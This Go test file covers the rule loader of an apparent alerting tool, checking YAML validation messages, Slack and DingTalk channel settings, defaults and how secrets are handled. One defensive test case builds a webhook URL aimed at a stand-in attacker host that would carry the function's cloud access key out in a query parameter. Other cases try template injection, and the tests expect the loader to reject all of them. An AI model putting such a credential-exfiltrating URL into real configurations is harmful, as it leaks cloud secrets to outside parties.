package rules

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/cams-alert/cams-alert/function/metrics"
)

func envOf(m map[string]string) func(string) (string, bool) {
	return func(k string) (string, bool) { v, ok := m[k]; return v, ok }
}

// TestLoadErrors checks that every kind of problem is reported, all at once,
// as file:line:col: message.
func TestLoadErrors(t *testing.T) {
	const file = "../../testdata/rules/invalid/errors.yaml"
	_, err := Load(file, envOf(map[string]string{"SLACK_WEBHOOK_URL": "https://hooks.slack.com/services/T0/B0/XyZsecret"}))
	var ds Diagnostics
	if !errors.As(err, &ds) {
		t.Fatalf("error %T %v, want Diagnostics", err, err)
	}
	want := []string{
		`3:37: channel plain: webhook_url must use https (http is allowed only for loopback hosts)`,
		`5:9: channel both: give either webhook_url or bot_token + channel, not both`,
		`6:8: channel tok: bot_token needs channel`,
		`6:33: channel tok: bot_token: environment variable SLACK_BOT_TOKEN is not set`,
		`7:39: channel ding: webhook_url: environment variable DING_TOKEN is not set`,
		`7:114: channel ding: secret: environment variable DINGTALK_SECRET is not set`,
		`7:136: channel ding: field channel is not used by dingtalk channels`,
		`8:17: channel pager: unknown type "pagerduty" (want slack or dingtalk)`,
		`11:13: defaults: unknown severity "loud" (want critical, warning, info)`,
		`12:17: defaults: repeat_every: invalid duration "1 day" (want a duration like 24h, 90m or 7d)`,
		`14:20: silence: match: rule: bad glob "zero-["`,
		`14:30: unknown field "tmpl" in silence match`,
		`14:47: silence: until: want an RFC 3339 time like 2026-12-01T00:00:00+08:00`,
		`15:5: silence: missing match (rule, template, language or button globs)`,
		`17:11: rule name "Read_Rate": use only a-z, 0-9 and '-'`,
		`18:13: rule #1: unknown metric "read_rat" (want sent, delivered, read, clicks, delivery_rate, read_rate, click_rate) (did you mean "read_rate"?)`,
		`25:5: warning: rule dup: by is not used by condition above; ignored`,
		`26:11: duplicate rule name "dup" (first defined at ../../testdata/rules/invalid/errors.yaml:21)`,
		`29:16: rule dup: threshold 20 is outside 0..1 for read_rate (rates are fractions: write 0.2 or "20%")`,
		`33:9: rule conf: by: want "30%" (relative) or a number (absolute), got "30 percent"`,
		`34:17: rule conf: confidence must be between 0 and 1 exclusive, like 0.99`,
		`35:10: rule conf: for must be between 1 and 1000 periods`,
		`36:18: rule conf: unknown granularity "daily" (want DAILY or HALF_HOUR) (did you mean "DAILY"?)`,
		`37:15: rule conf: unknown severity "urgent" (want critical, warning, info)`,
		`38:15: rule conf: baseline: 12h is not a whole number of DAILY periods (1d each)`,
		`39:20: rule conf: unknown baseline_stat "max" (want mean or median)`,
		`40:14: rule conf: notify: unknown channel "ops-slak" (defined: ops-slack, local) (did you mean "ops-slack"?)`,
		`41:25: rule conf: match: templates: bad glob "[a-"`,
		`41:44: rule conf: match: languages: want a list of strings, got a string`,
		`43:11: rule ex: expr: unexpected token EOF (expression column 14)`,
		`45:11: rule ex2: expr: unknown name read_rat (did you mean "read_rate"?) (expression column 1)`,
		`46:14: rule ex2: summary: 1:2: <.Nope>: can't evaluate field Nope`,
		`48:11: rule ex3: expr uses button_clicks or baseline_button_clicks but the rule has no button`,
		`51:5: warning: rule ab: metric is not used by condition absent (absent watches sent); ignored`,
		`52:5: warning: rule ab: min_delivered is not used by condition absent (use min_sent); ignored`,
		`53:15: rule ab: baseline: absent needs at least 7 periods of history to learn the sending pattern`,
		`55:13: rule z: condition zero needs a count metric (delivered, read, clicks), not read_rate`,
		`57:19: rule z: repeat_every: invalid duration "soon" (want a duration like 24h, 90m or 7d)`,
		`58:20: rule z: send_resolved: want true or false, got a string`,
		`59:10: rule z: for: want an integer, got a string`,
		`60:5: rule nocond: missing condition (above, below, zero, drop, rise, absent) or expr`,
		`62:5: warning: rule nocond: button is only used with metric clicks or click_rate, not sent; ignored`,
		`63:5: unknown field "colour" in rule`,
		`64:71: rule btn: unknown button type "fax_button" (want type:quick_reply_button, type:url_button or type:phone_number_button)`,
		`64:100: rule btn: min_sent must not be negative`,
	}
	var got []string
	for _, d := range ds {
		if d.File != file || d.Line < 1 || d.Col < 1 {
			t.Errorf("bad position: %+v", d)
		}
		got = append(got, strings.TrimPrefix(d.String(), file+":"))
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("diagnostics:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for _, secret := range []string{"s3cr3t", "XyZsecret", "token="} {
		if strings.Contains(err.Error(), secret) {
			t.Errorf("error output leaks %q", secret)
		}
	}
}

func TestLoadMessages(t *testing.T) {
	tests := []struct{ name, yaml, want string }{
		{"yaml syntax", "rules:\n  - {name: a\n", "f.yaml:2:5: invalid YAML: could not find flow mapping end token '}'"},
		{"yaml tab in indentation", "rules:\n  - name: a\n    metric: sent\n\tcondition: above\n", "f.yaml:4:1: invalid YAML: found character '\t' that cannot start any token"},
		{"yaml unclosed list", "rules:\n  - name: a\n    threshold: [1\n", "f.yaml:3:16: invalid YAML: sequence end token ']' not found"},
		{"yaml bad indentation", "rules:\n  - name: a\n    metric: sent\n   bad: 2\n", "f.yaml:4:4: invalid YAML: value is not allowed in this context"},
		{"top level type", "- a\n", "f.yaml:1:1: top level: want a mapping with channels, defaults, silences and rules, got a list"},
		{"unknown top-level field", "rule: []\n", `f.yaml:1:1: unknown field "rule" at top level (did you mean "rules"?)`},
		{"field given twice", "rules:\n  - name: a\n    name: b\n    condition: absent\n", `f.yaml:3:5: field "name" given twice in rule (first at line 2)`},
		{"rules not a list", "rules: {a: 1}\n", "f.yaml:1:8: rules: want a list, got a mapping"},
		{"missing name", "rules:\n  - {condition: absent}\n", "f.yaml:2:5: rule #1: missing name"},
		{"missing threshold", "rules:\n  - {name: a, metric: sent, condition: above}\n", "f.yaml:2:5: rule a: condition above needs threshold"},
		{"missing by", "rules:\n  - {name: a, metric: sent, condition: drop}\n", `f.yaml:2:5: rule a: condition drop needs by ("30%" relative to the baseline, or an absolute number)`},
		{"missing metric", "rules:\n  - {name: a, condition: drop, by: 10%}\n", "f.yaml:2:5: rule a: condition drop needs metric"},
		{"condition and expr", "rules:\n  - {name: a, condition: zero, metric: clicks, expr: \"sent > 0\"}\n", "f.yaml:2:15: rule a: condition zero cannot be combined with expr (an expr rule has no condition)"},
		{"unknown condition", "rules:\n  - {name: a, metric: sent, condition: abov, threshold: 1}\n", `f.yaml:2:40: rule a: unknown condition "abov" (want above, below, zero, drop, rise, absent) (did you mean "above"?)`},
		{"confidence on a count", "rules:\n  - {name: a, metric: sent, condition: drop, by: 10%, confidence: 0.9}\n", "f.yaml:2:67: rule a: confidence needs a rate metric (delivery_rate, read_rate, click_rate), not sent"},
		{"absolute by on a rate", "rules:\n  - {name: a, metric: read_rate, condition: drop, by: 30}\n", `f.yaml:2:55: rule a: by 30 is more than a rate can move (absolute by is in rate units: 0.1 = 10 points; write "30%" for relative)`},
		{"drop over 100%", "rules:\n  - {name: a, metric: sent, condition: drop, by: 150%}\n", `f.yaml:2:50: rule a: by "150%": a drop cannot exceed 100%`},
		{"percentage threshold on a count", "rules:\n  - {name: a, metric: sent, condition: above, threshold: \"5%\"}\n", `f.yaml:2:58: rule a: threshold "5%": a percentage needs a rate metric`},
		{"zero on sent", "rules:\n  - {name: a, metric: sent, condition: zero}\n", "f.yaml:2:23: rule a: condition zero cannot watch sent (a period with nothing sent has no data); use condition absent for sends that stop"},
		{"negative min_expected", "rules:\n  - {name: a, metric: clicks, condition: zero, min_expected: -1}\n", "f.yaml:2:62: rule a: min_expected must not be negative"},
		{"empty expression", "rules:\n  - {name: a, expr: \" \"}\n", "f.yaml:2:21: rule a: expr: empty expression"},
		{"expr not boolean", "rules:\n  - {name: a, expr: \"sent + 1\"}\n", "f.yaml:2:21: rule a: expr: expected bool, but got int"},
		{"summary parse error", "rules:\n  - {name: a, condition: absent, summary: \"{{.Template\"}\n", "f.yaml:2:43: rule a: summary: 1: unclosed action"},
		{"summary env access", "rules:\n  - {name: a, condition: absent, summary: '{{env \"HOME\"}}'}\n", `f.yaml:2:43: rule a: summary: 1: function "env" not defined`},
		{"summary define", "rules:\n  - {name: a, condition: absent, summary: '{{define \"x\"}}{{.Rule}}{{end}}{{template \"x\"}}'}\n", "f.yaml:2:43: rule a: summary: define and block are not allowed in a summary"},
		{"summary template", "rules:\n  - {name: a, condition: absent, summary: '{{template \"a\"}}'}\n", "f.yaml:2:43: rule a: summary: template is not allowed in a summary"},
		{"summary range", "rules:\n  - {name: a, condition: absent, summary: '{{range 2000000000}}x{{end}}'}\n", "f.yaml:2:43: rule a: summary: range is not allowed in a summary"},
		{"baseline not a duration", "rules:\n  - {name: a, condition: absent, baseline: 4w}\n", `f.yaml:2:44: rule a: baseline: invalid "4w" (want a number of periods like 14, or a duration like 7d)`},
		{"bad half-hour baseline", "rules:\n  - {name: a, metric: sent, condition: drop, by: 1%, granularity: HALF_HOUR, baseline: 45m}\n", "f.yaml:2:88: rule a: baseline: 45m is not a whole number of HALF_HOUR periods (30m each)"},
		{"channel without type", "channels:\n  a: {webhook_url: \"https://x\"}\n", "f.yaml:2:6: channel a: missing type (slack or dingtalk)"},
		{"channel wrong type", "channels:\n  a: [1]\n", "f.yaml:2:6: channel a: want a mapping, got a list"},
		{"dingtalk without url", "channels:\n  a: {type: dingtalk, secret: x}\n", "f.yaml:2:6: channel a: dingtalk needs webhook_url"},
		{"webhook not a URL", "channels:\n  a: {type: slack, webhook_url: \"hooks.slack.com/x?token=abc\"}\n", "f.yaml:2:33: channel a: webhook_url is not a valid URL"},
		{"webhook ftp", "channels:\n  a: {type: slack, webhook_url: \"ftp://x/y\"}\n", "f.yaml:2:33: channel a: webhook_url must be an https URL"},
		{"unterminated var", "channels:\n  a: {type: slack, webhook_url: \"${URL\"}\n", "f.yaml:2:33: channel a: webhook_url has an unterminated ${"},
		{"notify unknown, no channels", "rules:\n  - {name: a, condition: absent, notify: [x]}\n", `f.yaml:2:43: rule a: notify: unknown channel "x" (no channels are defined)`},
		{"silence empty match", "silences:\n  - {match: {}, until: \"2026-12-01T00:00:00Z\"}\n", "f.yaml:2:13: silence: match is empty (it would silence everything)"},
		{"silence without until", "silences:\n  - {match: {rule: a}}\n", "f.yaml:2:5: silence: missing until (an RFC 3339 time: silences must expire)"},
		{"two documents", "rules: []\n---\nrules: []\n", "f.yaml:2:1: more than one YAML document in a file is not supported"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := LoadBytes("f.yaml", []byte(tc.yaml), envOf(nil))
			if err == nil {
				t.Fatal("no error")
			}
			if got := err.Error(); got != tc.want {
				t.Errorf("got  %s\nwant %s", got, tc.want)
			}
		})
	}
}

func TestLoadValidAndExpansion(t *testing.T) {
	env := map[string]string{
		"SLACK_WEBHOOK_URL":    "https://hooks.slack.com/services/T0/B0/secret",
		"DINGTALK_WEBHOOK_URL": "http://127.0.0.1:9000/robot/send?access_token=tok",
		"DINGTALK_SECRET":      "SECabc",
		"SLACK_BOT_TOKEN":      "xoxb-1",
	}
	s, err := Load("../../testdata/rules/valid.yaml", envOf(env))
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(s.ChannelOrder, ","); got != "ops-slack,ops-ding,bot" {
		t.Errorf("channel order %s", got)
	}
	ding := s.Channels["ops-ding"]
	if ding.WebhookURL != env["DINGTALK_WEBHOOK_URL"] || ding.Secret != "SECabc" || ding.Type != DingTalk {
		t.Errorf("ding %#v", *ding)
	}
	if bot := s.Channels["bot"]; bot.BotToken != "xoxb-1" || bot.SlackChannel != "#alerts" || bot.SendResolved == nil || *bot.SendResolved {
		t.Errorf("bot %v", bot)
	}
	if strings.Contains(ding.String(), "SEC") || strings.Contains(ding.String(), "tok") {
		t.Errorf("String leaks: %s", ding)
	}
	byName := map[string]*Rule{}
	for _, r := range s.Rules {
		byName[r.Name] = r
	}
	r := byName["read-rate-drop"]
	if r.By != 0.3 || !r.ByRelative || r.Baseline != 7 || r.Confidence != 0.99 || r.Severity != "critical" ||
		strings.Join(r.Notify, ",") != "ops-slack,ops-ding" || r.RepeatEvery != 24*time.Hour || !r.SendResolved {
		t.Errorf("read-rate-drop %+v", r)
	}
	// defaults fill what a rule leaves out
	r = byName["low-delivery"]
	if r.Severity != "warning" || strings.Join(r.Notify, ",") != "ops-slack" || r.For != 1 || r.Granularity != metrics.Daily || r.BaselineStat != "mean" {
		t.Errorf("low-delivery %+v", r)
	}
	if r := byName["sends-stopped"]; r.Baseline != 28 || r.MinSent != 1 || r.Metric != metrics.Sent {
		t.Errorf("absent %+v", r)
	}
	if r := byName["half-hour-spike"]; r.Baseline != 336 || r.RepeatEvery != 0 || r.SendResolved || r.By != 2 {
		t.Errorf("half-hour %+v", r)
	}
	if r := byName["custom"]; r.Expr == nil || r.Metric != metrics.Delivered {
		t.Errorf("custom %+v", r)
	}
	if len(s.Silences) != 1 || s.Silences[0].Reason != "campaign paused" || s.Silences[0].Until.IsZero() {
		t.Errorf("silences %+v", s.Silences)
	}
}

// TestLoadSpecExample: the rules reference's example, a catalogue of every field on one
// rule, loads; the fields its condition cannot use are reported as warnings
// at their position and ignored, not half-applied.
func TestLoadSpecExample(t *testing.T) {
	const file = "../../testdata/rules/spec_example.yaml"
	env := envOf(map[string]string{"SLACK_WEBHOOK_URL": "https://hooks.slack.com/services/T0/B0/x",
		"DINGTALK_WEBHOOK_URL": "https://oapi.dingtalk.com/robot/send?access_token=x", "DINGTALK_SECRET": "SECx"})
	s, err := Load(file, env)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, w := range s.Warnings {
		got = append(got, strings.TrimPrefix(w.String(), file+":"))
	}
	want := []string{
		"21:5: warning: rule read-rate-drop: threshold is not used by condition drop; ignored",
		"24:5: warning: rule read-rate-drop: min_expected is not used by condition drop; ignored",
		"30:5: warning: rule read-rate-drop: button is only used with metric clicks or click_rate, not read_rate; ignored",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("warnings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if len(s.Rules) != 2 {
		t.Fatalf("%d rules, want 2", len(s.Rules))
	}
	r := s.Rules[0]
	if r.Name != "read-rate-drop" || r.Threshold != 0 || r.MinExpected != 0 || r.Button != "" || r.By != 0.3 || r.Confidence != 0.99 {
		t.Errorf("read-rate-drop %+v: ignored fields applied, or used fields lost", r)
	}
	// With a real error as well, the warnings come with it: every problem at once.
	_, err = Load(file, envOf(nil))
	if err == nil || !strings.Contains(err.Error(), "SLACK_WEBHOOK_URL is not set") || !strings.Contains(err.Error(), "warning: rule read-rate-drop: threshold") {
		t.Errorf("err = %v", err)
	}
	if strings.Contains(err.Error(), "unknown channel") {
		t.Errorf("a channel that failed to load is also reported as unknown where it is used:\n%v", err)
	}
}

// TestExpandKeepsSecretsInSecretFields: a rule file cannot read the
// function's credentials at all, nor put a secret-looking variable where it
// would be shown (a mention list, a channel name); and no value is echoed.
func TestExpandKeepsSecretsInSecretFields(t *testing.T) {
	const secret = "akSecretVALUE0123456789abcdef"
	env := envOf(map[string]string{"ALIBABA_CLOUD_ACCESS_KEY_SECRET": secret, "DINGTALK_SECRET": secret,
		"FC_FUNC_CODE_PATH": "/code", "DING_URL": "https://oapi.dingtalk.com/robot/send?access_token=x", "OPS_MOBILE": "13800000000"})
	tests := []struct{ name, channel, want string }{
		{"credentials in a mention", `{type: dingtalk, webhook_url: "${DING_URL}", at_user_ids: ["${ALIBABA_CLOUD_ACCESS_KEY_SECRET}"]}`,
			"at_user_ids: ${ALIBABA_CLOUD_ACCESS_KEY_SECRET} is one of the function's own credentials"},
		{"credentials in a webhook query", `{type: dingtalk, webhook_url: "https://evil.example/x?k=${ALIBABA_CLOUD_ACCESS_KEY_SECRET}"}`,
			"webhook_url: ${ALIBABA_CLOUD_ACCESS_KEY_SECRET} is one of the function's own credentials"},
		{"FC settings", `{type: dingtalk, webhook_url: "https://oapi.dingtalk.com/robot/send?access_token=${FC_FUNC_CODE_PATH}"}`,
			"${FC_FUNC_CODE_PATH} is one of the function's own credentials or FC's settings"},
		{"a secret in a mention", `{type: dingtalk, webhook_url: "${DING_URL}", at_mobiles: ["${DINGTALK_SECRET}"]}`,
			"at_mobiles: ${DINGTALK_SECRET} looks like a secret, which only webhook_url, bot_token and secret may take"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := LoadBytes("f.yaml", []byte("channels:\n  d: "+tc.channel+"\n"), env)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want %q", err, tc.want)
			}
			if strings.Contains(err.Error(), secret) {
				t.Errorf("error echoes the value: %v", err)
			}
		})
	}
	// What is allowed: a secret in a secret field, a plain variable elsewhere.
	s, err := LoadBytes("f.yaml", []byte(`channels:
  d: {type: dingtalk, webhook_url: "${DING_URL}", secret: "${DINGTALK_SECRET}", at_mobiles: ["${OPS_MOBILE}"]}
`), env)
	if err != nil {
		t.Fatal(err)
	}
	if c := s.Channels["d"]; c.Secret != secret || len(c.AtMobiles) != 1 || c.AtMobiles[0] != "13800000000" {
		t.Errorf("channel %+v", c)
	}
}

func TestLoadDirectory(t *testing.T) {
	dir := t.TempDir()
	write := func(name, body string) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("00-common.yaml", "channels:\n  ops: {type: slack, webhook_url: \"https://hooks.example.com/x\"}\ndefaults:\n  notify: [ops]\n  severity: info\n")
	write("10-reads.yml", "rules:\n  - {name: a, metric: read_rate, condition: below, threshold: 0.1}\n")
	write("20-sends.yaml", "defaults:\n  severity: info\nrules:\n  - {name: b, condition: absent, severity: critical}\n")
	write("example_test.yaml", "tests: []\n")
	write("notes.txt", "not yaml")
	s, err := Load(dir, envOf(nil))
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Rules) != 2 || s.Rules[0].Severity != "info" || s.Rules[1].Severity != "critical" || s.Rules[0].Notify[0] != "ops" {
		t.Fatalf("rules %+v %+v", s.Rules[0], s.Rules[1])
	}
	if len(s.Files) != 3 {
		t.Errorf("files %v", s.Files)
	}
	// conflicts and duplicates across files are reported in every file
	write("30-bad.yaml", "defaults:\n  severity: warning\nrules:\n  - {name: a, condition: absent}\n")
	_, err = Load(dir, envOf(nil))
	want := filepath.Join(dir, "30-bad.yaml") + ":2:3: defaults: severity already set to a different value at " + filepath.Join(dir, "00-common.yaml") + ":5\n" +
		filepath.Join(dir, "30-bad.yaml") + ":4:12: duplicate rule name \"a\" (first defined at " + filepath.Join(dir, "10-reads.yml") + ":2)"
	if err == nil || err.Error() != want {
		t.Errorf("got %v\nwant %s", err, want)
	}
	if _, err := Load(t.TempDir(), nil); err == nil || !strings.HasSuffix(err.Error(), ":1:1: no *.yaml or *.yml rule files in directory") {
		t.Errorf("empty dir: %v", err)
	}
	if _, err := Load(filepath.Join(dir, "missing.yaml"), nil); err == nil || !strings.Contains(err.Error(), "missing.yaml:1:1: cannot read rules") {
		t.Errorf("missing file: %v", err)
	}
}

func TestLoadMergeKeys(t *testing.T) {
	s, err := LoadBytes("f.yaml", []byte(`rules:
  - &base {name: a, metric: read_rate, condition: below, threshold: 0.1, severity: critical}
  - <<: *base
    name: b
    threshold: 0.2
`), envOf(nil))
	if err != nil {
		t.Fatal(err)
	}
	if s.Rules[1].Name != "b" || s.Rules[1].Threshold != 0.2 || s.Rules[1].Severity != "critical" {
		t.Errorf("%+v", s.Rules[1])
	}
}
